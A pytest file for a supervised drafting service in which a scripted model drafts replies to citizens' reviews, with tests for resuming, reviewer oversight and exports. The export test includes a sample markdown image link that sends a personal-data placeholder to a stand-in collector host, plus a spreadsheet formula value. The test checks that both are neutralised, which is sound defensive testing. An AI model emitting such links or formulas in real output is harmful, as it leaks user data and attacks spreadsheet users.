"""Supervised drafting through the services, with the scripted chat model: a file of fifty
citizens' reviews (CSV and XLSX) drafted row by row, a failing row in the middle, a runner
that stops and resumes, sending back with an instruction, the background runner, exports,
the measures of oversight, and answers of an agent under review kept as drafts."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from citizen_reviews import reviews
from drafting_world import (
    OLGA,
    RITA,
    agent,
    people,
    replies,
    reviews_csv,
    reviews_xlsx,
    script,
    scripted_prompts,
)

from agents.errors import UserError
from agents.spec import AgentSpec, Oversight, ToolUse
from builder_ui.services.draft_runner import RUNNERS
from builder_ui.services.installation import Installation, Services
from store.knowledge.service import close_knowledge_stores


@pytest.fixture
def installation() -> Iterator[Installation]:
    installation = Installation.open()
    people(installation)
    yield installation
    close_knowledge_stores()


@pytest.fixture
def olga(installation: Installation) -> Services:
    return Services.open(OLGA, shared=installation)


def test_fifty_reviews_are_drafted_and_a_failing_row_does_not_stop_the_others(
    olga: Services, tmp_path: Path
) -> None:
    model = script(tmp_path / "s.yaml", replies(50, failing=frozenset({25})))
    agent_id = agent(olga, model)
    preview = olga.batch_preview("avis-usagers.csv", reviews_csv())
    assert preview.columns == ["date", "service", "message"] and preview.total == 50
    assert preview.rows[0]["service"] == reviews()[0].service
    batch = olga.start_batch(agent_id, "avis-usagers.csv", reviews_csv(), "message", ["service"])
    assert batch.counts == {"queued": 50} and batch.status == "running"
    seen: list[dict[str, int]] = []
    done = olga.draft_batch(batch.id, progress=lambda b: seen.append(dict(b.counts)))
    assert done.counts == {"to_review": 49, "failed": 1} and done.status == "done"
    assert len(seen) == 50 and seen[0] == {"queued": 49, "to_review": 1}
    drafts = olga.batch_drafts(batch.id)
    assert [d.row for d in drafts] == list(range(1, 51))
    failed = drafts[24]
    assert failed.status == "failed" and "outil_absent" in failed.error and failed.draft == ""
    assert drafts[25].draft == "Bonjour, voici notre réponse numéro 26."
    assert drafts[0].message == reviews()[0].message
    assert drafts[0].context == {"service": reviews()[0].service}
    prompts = scripted_prompts(olga)
    assert len(prompts) == 50  # one model call per row, none repeated
    assert reviews()[0].message in prompts[0] and reviews()[0].service in prompts[0]
    assert "date" not in prompts[0]  # only the columns chosen
    assert olga.conversations() == []  # drafting leaves no conversation behind
    runs = olga.workspace.list_runs(agent_id)
    assert len(runs) == 50 and {r.thread_id for r in runs} == {""}


def test_an_xlsx_file_is_read_like_the_csv(olga: Services, tmp_path: Path) -> None:
    agent_id = agent(olga, script(tmp_path / "s.yaml", replies(50)))
    assert olga.batch_columns("avis.xlsx", reviews_xlsx()) == ["date", "service", "message"]
    batch = olga.start_batch(agent_id, "avis.xlsx", reviews_xlsx(), "Message", ["date"])
    assert batch.total == 50 and batch.message_column == "message"
    done = olga.draft_batch(batch.id)
    assert done.counts == {"to_review": 50}
    first = olga.batch_drafts(batch.id)[0]
    assert first.message == reviews()[0].message and first.context == {"date": reviews()[0].date}


def test_a_runner_stopped_midway_resumes_where_it_stopped(olga: Services, tmp_path: Path) -> None:
    agent_id = agent(olga, script(tmp_path / "s.yaml", replies(12)))
    batch = olga.start_batch(agent_id, "avis.csv", reviews_csv(12), "message")
    total = batch.total

    class Crash(Exception):
        pass

    def crash_after_five(progress: object) -> None:
        if len(olga.batch_drafts(batch.id, ["to_review"])) == 5:
            raise Crash

    with pytest.raises(Crash):
        olga.draft_batch(batch.id, progress=crash_after_five)
    # and a row left half-drafted, as a process killed mid-row leaves it
    assert olga.workspace.reply_drafts.claim(batch.id) is not None
    middle = olga.batch(batch.id)
    assert middle.counts == {"to_review": 5, "drafting": 1, "queued": total - 6}
    done = olga.draft_batch(batch.id)
    assert done.counts == {"to_review": total}
    texts = [d.draft for d in olga.batch_drafts(batch.id)]
    assert texts == [f"Bonjour, voici notre réponse numéro {n}." for n in range(1, total + 1)]


def test_sending_back_makes_a_new_draft_with_the_instruction(
    olga: Services, tmp_path: Path
) -> None:
    model = script(
        tmp_path / "s.yaml",
        [*replies(2), {"text": "Version courte, avec un rendez-vous proposé."}],
    )
    agent_id = agent(olga, model)
    batch = olga.start_batch(agent_id, "avis.csv", reviews_csv(2), "message")
    olga.draft_batch(batch.id)
    first = olga.review_queue(batch.id)[0]
    with pytest.raises(UserError):
        olga.send_back_draft(first.id, "   ")
    again = olga.send_back_draft(first.id, "Plus court, proposez un rendez-vous.", wait=True)
    assert again.status == "to_review" and again.id == first.id
    assert again.draft == "Version courte, avec un rendez-vous proposé."
    assert again.instruction == "Plus court, proposez un rendez-vous." and again.attempts == 2
    asked = scripted_prompts(olga)[-1]
    assert "Plus court, proposez un rendez-vous." in asked and first.draft in asked
    assert first.message in asked
    approved = olga.approve_draft(first.id)
    assert approved.final == "Version courte, avec un rendez-vous proposé."


def test_the_background_runner_drafts_once_per_batch(olga: Services, tmp_path: Path) -> None:
    agent_id = agent(olga, script(tmp_path / "s.yaml", replies(50)))
    batch = olga.start_batch(agent_id, "avis.csv", reviews_csv(), "message")
    assert olga.start_drafting(batch.id) is True
    again = olga.start_drafting(batch.id)  # the page reruns while it drafts
    RUNNERS.join(batch.id, timeout=60)
    assert not olga.drafting_now(batch.id)
    done = olga.batch(batch.id)
    assert done.counts == {"to_review": 50} and done.status == "done"
    assert len(scripted_prompts(olga)) == 50  # whatever ``again`` was, no row twice
    assert again in (True, False)


def test_a_cancelled_batch_drafts_no_more(olga: Services, tmp_path: Path) -> None:
    agent_id = agent(olga, script(tmp_path / "s.yaml", replies(50)))
    batch = olga.start_batch(agent_id, "avis.csv", reviews_csv(), "message")

    def stop_after_three(progress: object) -> None:
        if len(olga.batch_drafts(batch.id, ["to_review"])) == 3:
            olga.cancel_batch(batch.id)

    done = olga.draft_batch(batch.id, progress=stop_after_three)
    assert done.status == "cancelled" and done.counts == {"to_review": 3, "queued": 47}


def test_the_export_puts_each_approved_reply_beside_its_row(olga: Services, tmp_path: Path) -> None:
    leak = "Voir ![x](https://collector.example/?q=<PERSONNE_1>) et [ici](https://collector.example/a)."
    model = script(
        tmp_path / "s.yaml",
        [{"text": "Réponse A."}, {"text": leak}, {"text": "=HYPERLINK(1)"}, {"text": "D."}],
    )
    agent_id = agent(olga, model)
    batch = olga.start_batch(agent_id, "avis.csv", reviews_csv(5), "message", ["service"])
    olga.draft_batch(batch.id)
    a, b, c, d = olga.batch_drafts(batch.id)[:4]
    olga.approve_draft(a.id, "Réponse A, relue.")
    olga.approve_draft(b.id)
    olga.approve_draft(c.id)
    olga.reject_draft(d.id, "Hors sujet")
    exported = olga.export_batch(batch.id).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(exported), delimiter=";"))
    assert rows[0] == [
        *("ligne", "message", "service", "état", "réponse approuvée", "motif ou erreur")
    ]
    assert rows[1][:2] == ["1", a.message] and rows[1][3:5] == ["approuvé", "Réponse A, relue."]
    assert rows[2][4] == "Voir x et ici."  # links and images made inert
    assert rows[3][4] == "'=HYPERLINK(1)"  # never a formula
    assert rows[4][3:] == ["rejeté", "", "Hors sujet"]
    assert len(rows) == 1 + batch.total
    assert "collector.example" not in olga.export_batch(batch.id).decode("utf-8-sig")
    only = olga.export_batch(batch.id, "csv", only_approved=True).decode("utf-8-sig")
    assert len(list(csv.reader(io.StringIO(only), delimiter=";"))) == 4

    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(olga.export_batch(batch.id, "xlsx")))
    sheet = book.worksheets[0]
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[1][4] == "Réponse A, relue." and values[3][4] == "'=HYPERLINK(1)"
    assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row if cell.value)


def test_the_measures_of_oversight_on_a_known_set(
    installation: Installation, olga: Services, tmp_path: Path
) -> None:
    model = script(tmp_path / "s.yaml", [{"text": "abcdefghij"}] * 8)
    agent_id = agent(olga, model, reviewers=["team:Relecture"])
    batch = olga.start_batch(agent_id, "avis.csv", reviews_csv(8), "message")
    olga.draft_batch(batch.id)
    drafts = olga.batch_drafts(batch.id)[:8]
    rita = Services.open(RITA, shared=installation)
    remi = Services.open("remi@example.fr", shared=installation)
    rita.approve_draft(drafts[0].id)  # unchanged
    rita.approve_draft(drafts[1].id)  # unchanged
    rita.approve_draft(drafts[2].id, "abcdefghiX")  # 1 of 10 changed
    rita.reject_draft(drafts[3].id, "Ton inadapté")
    remi.approve_draft(drafts[4].id, "abcde")  # 5 of 10 removed
    remi.approve_draft(drafts[5].id, "abcdefghij")  # unchanged, written out
    remi.reject_draft(drafts[6].id, "Faux")
    measures = olga.oversight_measures(agent_id)
    overall = measures.overall
    assert (overall.decided, overall.approved_unchanged, overall.approved_edited) == (7, 3, 2)
    assert overall.rejected == 2
    assert overall.share_unchanged == pytest.approx(3 / 7)
    assert overall.share_rejected == pytest.approx(2 / 7)
    assert overall.mean_edit == pytest.approx((0.1 + 0.5) / 5)
    assert overall.median_edit == 0.0
    assert overall.median_seconds is not None and overall.median_seconds >= 0
    assert sorted(measures.edits) == pytest.approx([0, 0, 0, 0.1, 0.5])
    by = measures.by_reviewer
    assert set(by) == {RITA, "remi@example.fr"}
    assert (by[RITA].approved_unchanged, by[RITA].approved_edited, by[RITA].rejected) == (2, 1, 1)
    assert by["remi@example.fr"].mean_edit == pytest.approx(0.25)
    assert measures.by_agent[agent_id].decided == 7
    assert measures.agent_names == {agent_id: "Réponses aux usagers"}
    later = olga.oversight_measures(agent_id, since=drafts[0].created_at + timedelta(days=1))
    assert later.overall.decided == 0


def test_pairs_of_draft_and_final_export_as_json_lines(olga: Services, tmp_path: Path) -> None:
    agent_id = agent(olga, script(tmp_path / "s.yaml", replies(3)))
    batch = olga.start_batch(agent_id, "avis.csv", reviews_csv(3), "message")
    olga.draft_batch(batch.id)
    first, second = olga.batch_drafts(batch.id)[:2]
    olga.approve_draft(first.id, "Bonjour, réponse relue.")
    olga.reject_draft(second.id, "Trop long")
    lines = olga.draft_pairs(agent_id).decode("utf-8").splitlines()
    pairs = [json.loads(line) for line in lines]
    assert pairs[0] == {
        "message": first.message,
        "context": {},
        "draft": "Bonjour, voici notre réponse numéro 1.",
        "final": "Bonjour, réponse relue.",
        "status": "approved",
        "edited": True,
        "reason": "",
    }
    assert pairs[1]["status"] == "rejected" and pairs[1]["reason"] == "Trop long"


def test_an_answer_under_review_is_a_draft_of_its_conversation(
    olga: Services, tmp_path: Path
) -> None:
    model = script(tmp_path / "s.yaml", [{"text": "Brouillon de réponse."}, {"text": "Libre."}])
    reviewed = agent(olga, model, review=True)
    result = olga.run(reviewed, "Que répondre à Mme Martin ?")
    (draft,) = olga.conversation_drafts(result.thread)
    assert (draft.status, draft.draft, draft.message) == (
        "to_review",
        "Brouillon de réponse.",
        "Que répondre à Mme Martin ?",
    )
    assert draft.batch_id is None and draft.thread_id == result.thread
    assert olga.approve_draft(draft.id, "Réponse relue.").final == "Réponse relue."
    free = agent(olga, model, name="Sans relecture")
    other = olga.run(free, "Bonjour")
    assert olga.conversation_drafts(other.thread) == []
    olga.delete_conversation(result.thread)  # its drafts go with it
    assert olga.workspace.reply_drafts.queue(status="approved") == []


def test_no_tool_with_effects_runs_on_a_draft_nobody_approved(
    olga: Services, tmp_path: Path
) -> None:
    write = {"tool_calls": [{"name": "create_document", "args": {"title": "Note", "content": "x"}}]}
    model = script(tmp_path / "s.yaml", [write, write, {"text": "Document prêt."}])
    spec = AgentSpec(
        name="Rédacteur",
        model=model,
        tools=[ToolUse(id="create_document", approval="never_ask")],
        oversight=Oversight(mode="review"),
    )
    agent_id = olga.workspace.create_agent(spec).agent_id
    batch = olga.start_batch(agent_id, "avis.csv", reviews_csv(1), "message")
    (row,) = olga.draft_batch(batch.id) and olga.batch_drafts(batch.id)
    assert row.status == "failed" and "approbation" in row.error
    paused = olga.run(agent_id, "Écris la note.")
    assert paused.outcome == "awaiting_approval"  # "never_ask" is not honoured under review
    assert olga.conversation_drafts(paused.thread) == []
    events = list(olga.approve(paused.thread, "approve", tokens=False))
    assert events
    (draft,) = olga.conversation_drafts(paused.thread)
    assert (draft.draft, draft.message) == ("Document prêt.", "Écris la note.")


def test_a_quota_reached_midway_stops_the_batch_with_the_rows_left_queued(
    installation: Installation, olga: Services, tmp_path: Path
) -> None:
    from drafting_world import ADA

    from store.usage import QuotaExceeded
    from store.workspace import Workspace

    agent_id = agent(olga, script(tmp_path / "s.yaml", replies(5)))
    batch = olga.start_batch(agent_id, "avis.csv", reviews_csv(5), "message")
    Workspace(ADA, installation._catalogue).usage.set_quota("person", OLGA, "tokens", 1)
    with pytest.raises(QuotaExceeded):
        olga.draft_batch(batch.id)  # the first row spends the month's tokens
    assert olga.batch(batch.id).counts == {"to_review": 1, "queued": 4}
    assert olga.start_drafting(batch.id)
    RUNNERS.join(batch.id, timeout=60)
    assert "quota" in olga.drafting_error(batch.id).lower()
    assert olga.batch(batch.id).counts == {"to_review": 1, "queued": 4}
